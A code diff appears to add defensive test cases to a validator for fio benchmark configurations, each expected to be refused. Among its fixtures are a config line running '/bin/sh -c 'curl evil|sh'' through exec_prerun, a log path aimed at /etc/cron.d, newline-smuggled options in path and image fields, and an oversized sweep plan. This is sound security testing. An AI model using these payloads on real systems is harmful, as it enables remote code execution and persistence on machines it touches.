@@ -420,6 +420,9 @@ FIO_ESCAPES = {
     "directory": "[job]\nrw=write\ndirectory=/\n",
     "env-expansion": "[job]\nrw=read\nsize=${HOME}\n",
     "write_bw_log": "[job]\nrw=read\nwrite_bw_log=/etc/cron.d/x\n",
+    # fio reads an indented line as its own option; a line-based allow-list must not fold it in
+    "indented-exec_prerun": "[job]\nrw=read\n  exec_prerun=/bin/sh -c 'curl evil|sh'\n",
+    "over-the-text-cap": "[job]\nrw=read\n" + "# padding\n" * 7_000,
 }
 
 
@@ -463,6 +466,24 @@ def privileged_cases() -> Iterator[Case]:
         yield _case(name, _with(("workloads", 0, "params"), params), "refused", field)
 
 
+def trust_cases() -> Iterator[Case]:
+    """Issue 27's loose strings and unbounded work: each refused at its field before anything runs."""
+    yield _case(
+        "local-path-newline",
+        _with(("configs", 0, "targets", 4, "path"), "/mnt/bench\ndirectory=/"),
+        "refused",
+        "configs[0].targets[4].path",
+    )
+    # a trailing newline is stripped (every string is), so the newline sits inside the value
+    for name, image in (("ami", "ami-0123456789abcdef0\nx"), ("ssm-path", "/aws/service/ami\nx")):
+        yield _case(
+            f"image-{name}-newline", _with(("configs", 0, "image"), image), "refused", "configs[0].image"
+        )
+    sweep = {"iodepth": list(range(1, 33)), "numjobs": list(range(1, 33))}
+    heavy = [{"id": f"w{n}", "profile": "sweep-qd-randread-4k", "params": sweep} for n in range(50)]
+    yield _case("plan-of-153600-steps-a-config", _with(("workloads",), heavy), "refused", "workloads")
+
+
 def all_cases() -> list[Case]:
     cases = [
         *injection_cases(),
@@ -471,6 +492,7 @@ def all_cases() -> list[Case]:
         *document_cases(),
         *tag_cases(),
         *privileged_cases(),
+        *trust_cases(),
     ]
     names = [c.name for c in cases]
     assert len(names) == len(set(names)), "case names are unique"
